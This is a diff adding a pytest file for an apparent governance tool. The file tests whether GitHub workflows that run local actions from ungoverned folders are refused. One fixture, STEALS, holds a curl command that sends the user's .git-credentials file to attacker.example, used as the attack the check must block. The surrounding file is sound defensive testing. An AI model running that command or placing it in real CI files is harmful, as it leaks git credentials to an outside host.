@@ -1,0 +1,230 @@
+"""A governed workflow may run only governed code that GitHub resolves for it: `uses: ./tools/deploy` runs
+tools/deploy/action.yml and its script, so unless that folder is governed a pull request changing only
+tools/deploy/ changes what the approved workflow runs, and no body decides. The check, the audit and
+the hook refuse a workflow (or an action under .github/) that names a local action whose whole folder
+is not governed, as the site build refuses an ungoverned INHERIT or hook of mkdocs.yml."""
+
+from __future__ import annotations
+
+from datetime import date
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from governance.cli import main
+from governance.config import build_config
+from governance.errors import GovernanceError
+from governance.gate.audit import run_audit
+from governance.gate.check import run_check
+from governance.gate.local_actions import governed_folder, local_uses
+from governance.i18n import reset_language
+from governance.strict_yaml import load
+from tests.testing.gitrepo import GitRepo
+from tests.testing.governed import Governed, digest, record_text
+from tests.testing.sshkeys import Keys
+
+TODAY_ENV = {"GOVERNANCE_TODAY": "2026-12-01"}
+WORKFLOW = ".github/workflows/deploy.yml"
+TODAY = date(2026, 12, 1)
+
+
+def _workflow(action: str) -> str:
+    return f"""name: deploy
+on:
+  push:
+    branches: [main]
+permissions:
+  contents: read
+jobs:
+  deploy:
+    runs-on: ubuntu-24.04
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - name: Deploy
+        uses: {action}
+"""
+
+
+ACTION = """name: deploy
+runs:
+  using: composite
+  steps:
+    - run: echo deploying
+      shell: bash
+"""
+STEALS = ACTION.replace("echo deploying", 'curl -d @"$HOME/.git-credentials" https://attacker.example/')
+
+
+@pytest.fixture
+def adopted(tmp_path: Path, keys: Keys, seed_text: str) -> Governed:
+    """A repository adopted by `governance init` (3 board members), the adoption committed."""
+    repo = GitRepo.init(tmp_path / "policies")
+    repo.write("regulations/bribery-prevention.md", seed_text)
+    repo.commit("Regulations")
+    init = CliRunner().invoke(
+        main,
+        [
+            *("init", "--key", str(keys.secretary.private), "--identity", keys.secretary.identity),
+            *("--members", "3", "--root", str(repo.path)),
+        ],
+        env=TODAY_ENV,
+    )
+    assert init.exit_code == 0, init.output
+    repo.commit("Adopt regulation governance")
+    return Governed(repo, keys)
+
+
+def _propose(gov: Governed, name: str, ident: str, files: dict[str, str], approve: tuple[str, ...]) -> None:
+    """A pull request writing `files`, the board's signed written consent approving those in `approve`."""
+    gov.branch(name)
+    for path, text in files.items():
+        gov.repo.write(path, text)
+    decisions = [(f"file:{path}", "enact", digest(files[path])) for path in approve]
+    text = record_text(ident, decisions, consents=3, date="2026-11-30")
+    gov.record(ident, text.replace("\n", "\nrepository: policies\n", 1))  # init binds records to it
+    gov.repo.commit(f"Add {', '.join(files)}")
+
+
+def _check(gov: Governed, head: str) -> tuple[int, str]:
+    done = CliRunner().invoke(
+        main, ["check", "--root", str(gov.path), "--base", "main", "--head", head], env=TODAY_ENV
+    )
+    return done.exit_code, done.output
+
+
+def test_a_workflow_running_an_action_outside_github_is_refused_by_the_check(adopted: Governed) -> None:
+    files = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION}
+    _propose(adopted, "outside", "BD-2026-101", files, approve=(WORKFLOW,))
+
+    code, output = _check(adopted, "outside")
+    report = run_check(adopted.path, "main", "outside", today=TODAY)
+
+    assert code == 1, output
+    assert all(v.covered for v in report.verdicts)  # the workflow itself is approved: only this refuses
+    assert [str(v) for v in report.violations] == [
+        f"{WORKFLOW}:13: it runs the local action ./tools/deploy, whose folder tools/deploy is not governed, "
+        "so a pull request could change what the workflow runs without a decision; move the action under "
+        ".github/actions/, or add a pattern that covers its whole folder (tools/deploy/*) to governed_paths "
+        "in governance.yml"
+    ]
+    assert "tools/deploy" in output and f"{WORKFLOW}:13" in output
+
+
+def test_the_same_action_under_github_actions_is_accepted(adopted: Governed) -> None:
+    action = ".github/actions/deploy/action.yml"
+    files = {WORKFLOW: _workflow("./.github/actions/deploy"), action: ACTION}
+    _propose(adopted, "inside", "BD-2026-102", files, approve=(WORKFLOW, action))
+
+    code, output = _check(adopted, "inside")
+
+    assert code == 0, output
+
+
+def test_changing_only_the_ungoverned_action_of_an_approved_workflow_is_refused(adopted: Governed) -> None:
+    """The attack: main already runs ./tools/deploy (say from before this rule); a pull request that
+    touches no governed file rewrites what the workflow runs. The check refuses it; the audit refuses the
+    commit that made the workflow run it (a commit touching no governed file is not judged again)."""
+    files = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION}
+    _propose(adopted, "outside", "BD-2026-103", files, approve=(WORKFLOW,))
+    adopted.merge("outside")
+    adopted.branch("faster")
+    adopted.repo.write("tools/deploy/action.yml", STEALS)
+    adopted.repo.commit("Speed up the deploy step")
+
+    code, output = _check(adopted, "faster")
+    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)
+
+    assert code == 1, output
+    assert "./tools/deploy" in output
+    assert [c.subject for c in audit.bad_commits] == ["Merge outside"]
+
+
+def test_a_composite_action_under_github_may_not_run_an_ungoverned_one(adopted: Governed) -> None:
+    outer = ".github/actions/release/action.yml"
+    composite = ACTION.replace(
+        "    - run: echo deploying\n      shell: bash\n", "    - uses: ./scripts/inner\n"
+    )
+    files = {outer: composite, "scripts/inner/action.yml": ACTION}
+    _propose(adopted, "nested", "BD-2026-104", files, approve=(outer,))
+
+    report = run_check(adopted.path, "main", "nested", today=TODAY)
+
+    assert [str(v).partition(" whose")[0] for v in report.violations] == [
+        f"{outer}:5: it runs the local action ./scripts/inner,"
+    ]
+
+
+def test_a_workflow_that_cannot_be_read_is_a_finding_not_a_crash(adopted: Governed) -> None:
+    broken = "jobs:\n  x:\n    steps: [\n"
+    _propose(adopted, "broken", "BD-2026-105", {WORKFLOW: broken}, approve=(WORKFLOW,))
+
+    code, output = _check(adopted, "broken")
+
+    assert code == 1, output
+    assert f"{WORKFLOW}: it cannot be read, so the gate cannot tell which local actions it runs" in output
+
+
+def test_an_ungoverned_action_folder_is_refused_in_japanese(
+    adopted: Governed, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    files = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION}
+    _propose(adopted, "outside", "BD-2026-106", files, approve=(WORKFLOW,))
+    monkeypatch.setenv("LANG", "ja_JP.UTF-8")
+    for name in ("LANGUAGE", "LC_ALL", "LC_MESSAGES"):
+        monkeypatch.delenv(name, raising=False)
+    reset_language()
+    try:
+        code, output = _check(adopted, "outside")
+    finally:
+        monkeypatch.undo()
+        reset_language()
+
+    assert code == 1, output
+    assert (
+        f"{WORKFLOW}:13: ローカルアクション ./tools/deploy を実行しますが、そのフォルダ tools/deploy は統制対象では"
+        "ないため" in output
+    ), output
+
+
+def test_a_folder_is_governed_only_when_governed_paths_covers_all_of_it() -> None:
+    assert governed_folder(".github/actions/deploy", build_config({}))
+    assert not governed_folder("tools/deploy", build_config({}))
+    assert governed_folder("tools/deploy", build_config({"governed_paths": ["tools/deploy/*"]}))
+    assert governed_folder("tools/deploy", build_config({"governed_paths": ["tools/*"]}))
+    # Only its definition: the script it runs would be free.
+    assert not governed_folder("tools/deploy", build_config({"governed_paths": ["tools/deploy/*.yml"]}))
+    assert not governed_folder("..", build_config({"governed_paths": ["*"]}))  # outside the repository
+    assert not governed_folder("../x", build_config({"governed_paths": ["*"]}))
+
+
+def test_every_uses_of_a_local_action_is_found_with_its_line() -> None:
+    text = """jobs:
+  call:
+    uses: ./.github/workflows/reusable.yml
+  build:
+    steps:
+      - uses: actions/checkout@v5
+      - uses: ./tools/a
+      - uses: "./.github/../tools/b"
+      - run: ./scripts/not-judged.sh
+"""
+    found = local_uses(load(text, "w.yml"), "w.yml")
+
+    assert [(u.line, u.uses, u.folder) for u in found] == [
+        (3, "./.github/workflows/reusable.yml", ".github/workflows/reusable.yml"),
+        (7, "./tools/a", "tools/a"),
+        (8, "./.github/../tools/b", "tools/b"),
+    ]
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("uses: ./-[]{}\n'\"&*!#ab")), max_size=200))
+def test_reading_uses_never_fails_on_what_the_strict_reader_accepts(text: str) -> None:
+    try:
+        document = load(text, "w.yml")
+    except GovernanceError:
+        return  # refused with its line: a finding of the gate, never a crash
+    assert all(use.uses.startswith("./") for use in local_uses(document, "w.yml"))
